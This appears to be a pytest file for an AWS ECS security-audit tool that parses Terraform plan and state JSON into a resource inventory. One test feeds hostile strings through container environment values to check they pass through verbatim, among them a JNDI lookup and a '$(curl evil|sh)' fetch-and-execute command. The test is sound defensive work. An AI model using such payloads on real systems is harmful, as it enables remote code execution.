"""Terraform plan JSON: values known only after apply, references through the configuration,
child modules and count instances, separate security-group rules, secret values kept out."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from loader_helpers import DATA, load, normalised

from ecsguard.collect import terraform
from ecsguard.collect.load import load_inputs
from ecsguard.model import Inventory, InventoryBuilder


@pytest.fixture(scope="module")
def inv() -> Inventory:
    return load("platform.tfplan.json")


def _one(
    resource_type: str, values: dict[str, Any], unknown: Any = None, expressions: Any = None
) -> Inventory:
    address = f"{resource_type}.x"
    row = {"address": address, "mode": "managed", "type": resource_type, "name": "x"}
    doc = {
        "format_version": "1.2",
        "terraform_version": "1.9.8",
        "planned_values": {"root_module": {"resources": [{**row, "values": values}]}},
        "resource_changes": [
            {
                **row,
                "change": {"actions": ["create"], "after": values, "after_unknown": unknown or {}},
            }
        ],
        "configuration": {
            "root_module": {"resources": [{**row, "expressions": expressions or {}}]}
        },
    }
    builder = InventoryBuilder()
    terraform.load(doc, "plan.json", builder)
    return builder.build()


def test_after_unknown_container_definitions(inv: Inventory) -> None:
    (td,) = inv.task_definitions
    assert td.id == "module.app.aws_ecs_task_definition.this"
    assert td.container_definitions == ()
    assert td.is_unknown("containerDefinitions[0].user")
    assert td.is_unknown("containerDefinitions[0].privileged")
    assert not td.is_unknown("family")


def test_references_across_a_module(inv: Inventory) -> None:
    (svc,) = inv.services
    assert svc.id == "module.app.aws_ecs_service.this"
    assert inv.task_definition(svc.task_definition) is inv.task_definitions[0]
    cluster = inv.cluster(svc.cluster_arn)
    assert cluster is not None and cluster.id == "aws_ecs_cluster.main"
    assert cluster.capacity_providers == ("FARGATE", "FARGATE_SPOT")
    assert svc.region == "eu-west-1"
    assert svc.awsvpc is not None and svc.awsvpc.assign_public_ip == "ENABLED"
    assert svc.enable_execute_command is True
    sc = svc.effective_service_connect
    assert sc is not None and sc.enabled and sc.services[0].client_aliases[0].dns_name == "app"
    assert not svc.is_unknown("roleArn")  # computed and unconfigured: absent, not unknown


def test_security_group_rule_resources(inv: Inventory) -> None:
    db = inv.security_group("aws_security_group.db")
    assert db is not None
    rules = sorted(
        (r.rule_id, r.direction, r.protocol, r.peer_kind, r.peer, r.from_port) for r in db.rules
    )
    assert rules == [
        ("aws_security_group_rule.db_in", "ingress", "tcp", "cidr4", "10.0.0.0/16", 5432),
        ("aws_security_group_rule.db_in", "ingress", "tcp", "cidr4", "10.1.0.0/16", 5432),
        ("aws_security_group_rule.db_out", "egress", "tcp", "prefix_list", "pl-63a5400a", 443),
        ("aws_security_group_rule.db_self", "ingress", "-1", "sg", "aws_security_group.db", -1),
    ]
    (rds,) = inv.rds_instances
    assert [g.vpc_security_group_id for g in rds.vpc_security_groups] == ["aws_security_group.db"]


def test_count_instances_and_inline_rules(inv: Inventory) -> None:
    web = sorted(sg.id for sg in inv.security_groups if sg.id.startswith("aws_security_group.web"))
    assert web == ["aws_security_group.web[0]", "aws_security_group.web[1]"]
    group = inv.security_group("aws_security_group.web[1]")
    assert group is not None
    assert sorted((r.peer_kind, r.peer) for r in group.rules) == [
        ("cidr4", "0.0.0.0/0"),
        ("cidr6", "::/0"),
    ]
    assert group.ip_permissions_egress == ()  # Terraform removes the default egress rule


def test_no_secret_value_enters_the_inventory(inv: Inventory) -> None:
    dumped = json.dumps([msgspec.to_builtins(r) for r in inv.resources()], default=str)
    for secret in ("s3cr3t-do-not-leak", "sk_live_do_not_leak", "hunter2-do-not-leak"):
        assert secret not in dumped
    (secret,) = inv.secrets
    assert secret.kms_key_id == "aws_kms_key.k"
    (param,) = inv.ssm_parameters
    assert (param.type, param.key_id) == ("SecureString", "alias/aws/ssm")


def test_other_types(inv: Inventory) -> None:
    (lb,) = inv.load_balancers
    assert lb.scheme == "internal"
    assert lb.attribute("deletion_protection.enabled") == "true"
    assert lb.attribute("access_logs.s3.enabled") == "true"
    (key,) = inv.kms_keys
    assert key.aliases == ("alias/secrets",) and key.key_rotation_enabled is False
    (role,) = inv.iam_roles
    assert [p.policy_name for p in role.role_policy_list] == ["logs"]
    assert [p.policy_name for p in role.attached_policies] == ["AmazonECSTaskExecutionRolePolicy"]
    (logs,) = inv.log_groups
    assert logs.retention_in_days is None  # 0 means "never expire"
    (acl,) = inv.network_acls
    assert sorted((e.rule_number, e.protocol, e.rule_action, e.egress) for e in acl.entries) == [
        (90, "6", "deny", False),
        (100, "-1", "allow", True),
    ]
    (table,) = inv.route_tables
    assert [(r.destination_cidr_block, r.nat_gateway_id, r.gateway_id) for r in table.routes] == [
        ("0.0.0.0/0", "nat-0123456789abcdef0", None)
    ]


def test_unknown_without_configuration_reference_stays_unknown() -> None:
    values = {
        "family": "web",
        "container_definitions": json.dumps([{"name": "web", "image": "nginx"}]),
    }
    inv = _one(
        "aws_ecs_task_definition",
        values,
        {"task_role_arn": True},
        {
            "task_role_arn": {
                "references": ["data.aws_iam_role.shared.arn", "data.aws_iam_role.shared"]
            }
        },
    )
    (td,) = inv.task_definitions
    assert td.is_unknown("taskRoleArn") and td.task_role_arn is None
    assert td.container_definitions[0].image == "nginx"


def test_unknown_inside_nested_block() -> None:
    values = {
        "name": "svc",
        "network_configuration": [{"assign_public_ip": False, "subnets": ["subnet-1"]}],
    }
    unknown = {"network_configuration": [{"security_groups": True}]}
    inv = _one("aws_ecs_service", values, unknown)
    (svc,) = inv.services
    assert svc.is_unknown("networkConfiguration.awsvpcConfiguration.securityGroups")
    assert svc.awsvpc is not None and svc.awsvpc.subnets == ("subnet-1",)


def test_task_definition_blocks() -> None:
    values = {
        "family": "web",
        "container_definitions": json.dumps(
            [
                {
                    "name": "web",
                    "image": "nginx",
                    "linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}},
                }
            ]
        ),
        "volume": [
            {
                "name": "data",
                "host_path": "/var/run/docker.sock",
                "configure_at_launch": False,
                "efs_volume_configuration": [],
                "docker_volume_configuration": [],
            }
        ],
        "runtime_platform": [
            {"operating_system_family": "WINDOWS_SERVER_2022_CORE", "cpu_architecture": "X86_64"}
        ],
        "proxy_configuration": [
            {"type": "APPMESH", "container_name": "envoy", "properties": {"AppPorts": "8080"}}
        ],
        "pid_mode": "host",
        "ipc_mode": None,
        "tags": {"pci:chd": "process"},
    }
    (td,) = _one("aws_ecs_task_definition", values).task_definitions
    assert (
        td.volumes[0].host is not None and td.volumes[0].host.source_path == "/var/run/docker.sock"
    )
    assert td.is_windows and td.pid_mode == "host" and td.ipc_mode is None
    assert (
        td.proxy_configuration is not None
        and td.proxy_configuration.properties[0].name == "AppPorts"
    )
    assert td.container_definitions[0].linux_parameters is not None
    assert td.tag_dict == {"pci:chd": "process"}


def test_state_json_is_read_as_known_values(tmp_path: Path) -> None:
    doc = {
        "format_version": "1.0",
        "terraform_version": "1.9.8",
        "values": {
            "root_module": {
                "resources": [
                    {
                        "address": "aws_cloudwatch_log_group.app",
                        "mode": "managed",
                        "type": "aws_cloudwatch_log_group",
                        "name": "app",
                        "values": {
                            "arn": "arn:aws:logs:us-east-1:111122223333:log-group:/app",
                            "name": "/app",
                            "retention_in_days": 30,
                        },
                    },
                    {
                        "address": "data.aws_caller_identity.me",
                        "mode": "data",
                        "type": "aws_caller_identity",
                        "name": "me",
                        "values": {},
                    },
                ]
            }
        },
    }
    path = tmp_path / "terraform.tfstate.json"
    path.write_text(json.dumps(doc))
    inv = load_inputs([str(path)])
    (group,) = inv.log_groups
    assert group.log_group_arn == "arn:aws:logs:us-east-1:111122223333:log-group:/app"
    assert group.retention_in_days == 30 and group.id == "aws_cloudwatch_log_group.app"
    assert inv.kinds == frozenset({"terraform"})


def test_provider_default_tags_come_from_tags_all() -> None:
    values = {
        "name": "/app",
        "tags": {"team": "payments"},
        "tags_all": {"team": "payments", "pci:chd": "store"},
    }
    (group,) = _one("aws_cloudwatch_log_group", values).log_groups
    assert group.tags == {"team": "payments", "pci:chd": "store"}


def test_counted_module_links_references() -> None:
    def row(kind: str, name: str) -> dict[str, Any]:
        return {
            "address": f'module.svc["a"].{kind}.{name}',
            "mode": "managed",
            "type": kind,
            "name": name,
        }

    td = {
        **row("aws_ecs_task_definition", "t"),
        "values": {"family": "web", "container_definitions": "[]"},
    }
    svc = {**row("aws_ecs_service", "s"), "values": {"name": "web"}}
    doc = {
        "format_version": "1.2",
        "planned_values": {
            "root_module": {
                "child_modules": [{"address": 'module.svc["a"]', "resources": [td, svc]}]
            }
        },
        "resource_changes": [
            {**svc, "change": {"actions": ["create"], "after_unknown": {"task_definition": True}}}
        ],
        "configuration": {
            "root_module": {
                "module_calls": {
                    "svc": {
                        "module": {
                            "resources": [
                                {
                                    "address": "aws_ecs_service.s",
                                    "mode": "managed",
                                    "expressions": {
                                        "task_definition": {
                                            "references": [
                                                "aws_ecs_task_definition.t.arn",
                                                "aws_ecs_task_definition.t",
                                            ]
                                        }
                                    },
                                }
                            ]
                        }
                    }
                }
            }
        },
    }
    builder = InventoryBuilder()
    terraform.load(doc, "plan.json", builder)
    inv = builder.build()
    (service,) = inv.services
    assert service.task_definition == 'module.svc["a"].aws_ecs_task_definition.t'
    assert inv.task_definition(service.task_definition) is not None


def test_hostile_strings_survive_verbatim() -> None:
    hostile = [
        "${jndi:ldap://evil/a}",
        "$(curl evil|sh)",
        "\u202eevil\u200b",
        "\x1b[2J",
        "a\nb",
        "{{7*7}}",
    ]
    containers = [
        {
            "name": "web",
            "image": "nginx",
            "environment": [{"name": f"V{i}", "value": v} for i, v in enumerate(hostile)],
            "dockerLabels": {v: v for v in hostile},
        }
    ]
    values = {"family": "web", "container_definitions": json.dumps(containers)}
    (td,) = _one("aws_ecs_task_definition", values).task_definitions
    assert [e.value for e in td.container_definitions[0].environment] == hostile
    assert td.container_definitions[0].docker_labels == {v: v for v in hostile}


def test_task_set_folds_into_its_service() -> None:
    def row(kind: str, values: dict[str, Any]) -> dict[str, Any]:
        return {
            "address": f"{kind}.x",
            "mode": "managed",
            "type": kind,
            "name": "x",
            "values": values,
        }

    doc = {
        "format_version": "1.2",
        "planned_values": {
            "root_module": {
                "resources": [
                    row(
                        "aws_ecs_service",
                        {"name": "web", "deployment_controller": [{"type": "EXTERNAL"}]},
                    ),
                    row(
                        "aws_ecs_task_set",
                        {
                            "service": "web",
                            "task_definition": "web:7",
                            "launch_type": "FARGATE",
                            "network_configuration": [
                                {
                                    "assign_public_ip": True,
                                    "subnets": ["subnet-1"],
                                    "security_groups": ["sg-1"],
                                }
                            ],
                        },
                    ),
                ]
            }
        },
    }
    builder = InventoryBuilder()
    terraform.load(doc, "plan.json", builder)
    (svc,) = builder.build().services
    assert svc.deployment_controller is not None and svc.deployment_controller.type == "EXTERNAL"
    (task_set,) = svc.task_sets
    assert (task_set.task_definition, task_set.launch_type) == ("web:7", "FARGATE")
    network = task_set.network_configuration
    assert network is not None and network.awsvpc_configuration is not None
    assert network.awsvpc_configuration.assign_public_ip == "ENABLED"


def test_load_balancer_subnets_from_subnet_mapping() -> None:
    values = {
        "name": "nlb",
        "internal": False,
        "load_balancer_type": "network",
        "subnet_mapping": [{"subnet_id": "subnet-1", "allocation_id": "eipalloc-1"}],
    }
    (lb,) = _one("aws_lb", values, {"subnets": True}).load_balancers
    assert [z.subnet_id for z in lb.availability_zones] == ["subnet-1"]
    assert not lb.is_unknown("AvailabilityZones") and lb.scheme == "internet-facing"


def test_raw_tfstate_file(tmp_path: Path) -> None:
    containers = [{"name": "web", "image": "nginx", "privileged": True}]
    state = {
        "version": 4,
        "terraform_version": "1.9.8",
        "serial": 12,
        "lineage": "8d3c3f0e-2b1a-4c5d-9e8f-0a1b2c3d4e5f",
        "outputs": {},
        "resources": [
            {
                "module": "module.app",
                "mode": "managed",
                "type": "aws_ecs_task_definition",
                "name": "web",
                "provider": 'provider["registry.terraform.io/hashicorp/aws"]',
                "instances": [
                    {
                        "index_key": "blue",
                        "schema_version": 1,
                        "attributes": {
                            "arn": "arn:aws:ecs:us-east-1:111122223333:task-definition/web:9",
                            "family": "web",
                            "revision": 9,
                            "container_definitions": json.dumps(containers),
                        },
                        "sensitive_attributes": [],
                    }
                ],
            },
            {
                "mode": "data",
                "type": "aws_caller_identity",
                "name": "me",
                "instances": [{"attributes": {}}],
            },
        ],
        "check_results": None,
    }
    path = tmp_path / "terraform.tfstate"
    path.write_text(json.dumps(state))
    inv = load_inputs([str(path)])
    (td,) = inv.task_definitions
    assert td.id == 'module.app.aws_ecs_task_definition.web["blue"]'
    assert td.task_definition_arn.endswith("web:9") and td.revision == 9
    assert td.container_definitions[0].privileged is True
    assert inv.task_definition("web:9") is td


def test_plan_with_only_resource_changes() -> None:
    doc = json.loads((DATA / "estate.tfplan.json").read_text())
    del doc["planned_values"]
    deleted = {
        "address": "aws_sqs_queue.old",
        "mode": "managed",
        "type": "aws_sqs_queue",
        "name": "old",
        "change": {"actions": ["delete"], "before": {"name": "old"}, "after": None},
    }
    doc["resource_changes"].append(deleted)
    builder = InventoryBuilder()
    terraform.load(doc, "trimmed.json", builder)
    trimmed = normalised(builder.build())
    assert trimmed == normalised(load("estate.tfplan.json"))


def test_wholly_unknown_inline_rules_rebuilt_from_configuration() -> None:
    values = {"name": "app", "vpc_id": "vpc-1"}
    expressions = {
        "ingress": [
            {
                "from_port": {"constant_value": 8443},
                "to_port": {"constant_value": 8443},
                "protocol": {"constant_value": "tcp"},
                "security_groups": {
                    "references": ["aws_security_group.alb.id", "aws_security_group.alb"]
                },
            },
            {
                "from_port": {"references": ["var.port"]},
                "to_port": {"constant_value": 22},
                "protocol": {"constant_value": "tcp"},
                "cidr_blocks": {"constant_value": ["10.0.0.0/8"]},
            },
        ]
    }
    doc = {
        "format_version": "1.2",
        "planned_values": {
            "root_module": {
                "resources": [
                    {
                        "address": f"aws_security_group.{n}",
                        "mode": "managed",
                        "type": "aws_security_group",
                        "name": n,
                        "values": values,
                    }
                    for n in ("app", "alb")
                ]
            }
        },
        "resource_changes": [
            {
                "address": "aws_security_group.app",
                "change": {"actions": ["create"], "after_unknown": {"ingress": True}},
            }
        ],
        "configuration": {
            "root_module": {
                "resources": [
                    {
                        "address": "aws_security_group.app",
                        "mode": "managed",
                        "expressions": expressions,
                    }
                ]
            }
        },
    }
    builder = InventoryBuilder()
    terraform.load(doc, "plan.json", builder)
    group = builder.build().security_group("aws_security_group.app")
    assert group is not None
    assert [(r.peer_kind, r.peer, r.from_port) for r in group.rules] == [
        ("sg", "aws_security_group.alb", 8443)
    ]
    # the second block's port is a variable the plan does not show: the rule list is incomplete
    assert group.is_unknown("IpPermissions")
